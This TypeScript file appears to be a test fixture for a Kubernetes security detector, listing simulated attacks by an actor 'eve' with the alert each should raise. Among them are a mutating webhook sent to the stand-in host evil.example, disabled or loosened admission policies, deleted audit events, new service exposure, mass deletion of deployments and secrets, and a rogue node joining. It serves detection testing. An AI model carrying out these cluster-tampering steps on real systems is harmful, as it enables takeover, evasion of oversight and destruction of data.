import { http } from '../http.ts';
import { node, object, podSpec, workload } from '../objects.ts';
import { minute } from '../world.ts';
import { named, type Attack } from './trace.ts';

/** Attacks on the configuration of the cluster. */
export const configurationAttacks: readonly Attack[] = [
  [
    'mutating webhook external',
    (world) =>
      world.write(
        'eve',
        object('MutatingWebhookConfiguration', 'x', {
          webhooks: [{ clientConfig: { url: 'https://evil.example/m' }, rules: [{ apiGroups: [''], resources: ['pods'] }] }],
        }),
      ),
    ['webhook-configuration:critical'],
    'eve',
  ],
  [
    'webhook deleted',
    (world) => {
      const o = object('ValidatingWebhookConfiguration', 'kyverno', {
        webhooks: [{ clientConfig: { service: { namespace: 'kyverno', name: 'k' } }, rules: [] }],
      });
      world.found(o);
      world.remove('eve', o);
    },
    ['webhook-configuration'],
    'eve',
  ],
  [
    'webhook made harmless',
    (world) => {
      const o = (p: string) =>
        object('ValidatingWebhookConfiguration', 'kyverno', {
          webhooks: [{ failurePolicy: p, clientConfig: { service: { namespace: 'kyverno', name: 'k' } }, rules: [] }],
        });
      world.found(o('Fail'));
      world.write('eve', o('Ignore'));
    },
    ['webhook-configuration'],
    'eve',
  ],
  [
    'webhook emptied',
    (world) => {
      world.found(
        object('ValidatingWebhookConfiguration', 'kyverno', {
          webhooks: [{ clientConfig: { service: { namespace: 'kyverno', name: 'k' } }, rules: [] }],
        }),
      );
      world.write('eve', object('ValidatingWebhookConfiguration', 'kyverno', { webhooks: [] }));
    },
    ['webhook-configuration'],
    'eve',
  ],
  [
    'PSA lowered',
    (world) => {
      world.found(object('Namespace', 'shop', {}, { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } }));
      world.write('eve', object('Namespace', 'shop', {}, { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } }));
    },
    ['guardrail-loosened'],
    'eve',
  ],
  [
    'VAP with expression true',
    (world) => {
      const v = (e: string) => object('ValidatingAdmissionPolicy', 'p', { spec: { validations: [{ expression: e }] } });
      world.found(v('object.spec.hostPID != true'));
      world.write('eve', v('true'));
    },
    ['guardrail-loosened'],
    'eve',
  ],
  [
    'VAP with match condition',
    (world) => {
      const v = (m: object) => object('ValidatingAdmissionPolicy', 'p', { spec: { validations: [{ expression: 'x' }], ...m } });
      world.found(v({}));
      world.write('eve', v({ matchConditions: [{ name: 'x', expression: 'false' }] }));
    },
    ['guardrail-loosened'],
    'eve',
  ],
  [
    'VAP binding excludes ns',
    (world) => {
      const v = (m: object) =>
        object('ValidatingAdmissionPolicyBinding', 'p', { spec: { validationActions: ['Deny'], policyName: 'p', ...m } });
      world.found(v({}));
      world.write('eve', v({ matchResources: { namespaceSelector: { matchLabels: { a: 'b' } } } }));
    },
    ['guardrail-loosened'],
    'eve',
  ],
  [
    'VAP binding to warn',
    (world) => {
      const v = (m: string) => object('ValidatingAdmissionPolicyBinding', 'p', { spec: { validationActions: [m], policyName: 'p' } });
      world.found(v('Deny'));
      world.write('eve', v('Warn'));
    },
    ['guardrail-loosened'],
    'eve',
  ],
  ['events deleted', (world) => http(world, 'eve', 'DELETE /api/v1/namespaces/shop/events'), ['events-deleted'], 'eve'],
  [
    'events.k8s.io deleted',
    (world) => http(world, 'eve', 'DELETE /apis/events.k8s.io/v1/namespaces/shop/events/x.17'),
    ['events-deleted'],
    'eve',
  ],
  [
    'coredns changed',
    (world) => {
      const c = (d: string) => object('ConfigMap', 'kube-system/coredns', { data: { Corefile: d } });
      world.found(c('a'));
      world.write('eve', c('b'));
    },
    ['cluster-dns-or-auth-changed'],
    'eve',
  ],
  ['nodeport', (world) => world.write('eve', object('Service', 'shop/x', { spec: { type: 'NodePort' } })), ['new-exposure'], 'eve'],
  [
    'externalIPs',
    (world) => world.write('eve', object('Service', 'shop/x', { spec: { externalIPs: ['1.1.1.1'] } })),
    ['new-exposure:high'],
    'eve',
  ],
  [
    'mass deletion of deployments',
    (world) => {
      const all = 'abcdefghijkl'.split('').map((x) => workload('Deployment', `shop/${x}${x}`, podSpec('a')));
      world.found(...all);
      for (const a of all) world.remove('eve', a);
    },
    ['mass-deletion'],
    'eve',
  ],
  [
    'mass deletion slow',
    (world) => {
      const all = Array.from({ length: 60 }, (_, i) => workload('Deployment', `shop/${named(i)}`, podSpec('a')));
      world.found(...all);
      for (const a of all) {
        world.wait(12 * minute);
        world.remove('eve', a);
      }
    },
    ['mass-deletion'],
    'eve',
  ],
  [
    'mass deletion of secrets and configmaps',
    (world) => {
      for (let i = 0; i < 14; i += 1) http(world, 'eve', `DELETE /api/v1/namespaces/shop/secrets/${named(i)}`);
    },
    ['mass-deletion'],
    'eve',
  ],
  [
    'new node',
    (world) => {
      world.found(node('node-a', '10.0.0.1'));
      world.write('system:bootstrap:abcdef', node('evil', '10.0.0.66', { labels: { 'node.kubernetes.io/instance-type': 'laptop' } }));
    },
    ['unknown-node'],
  ],
];
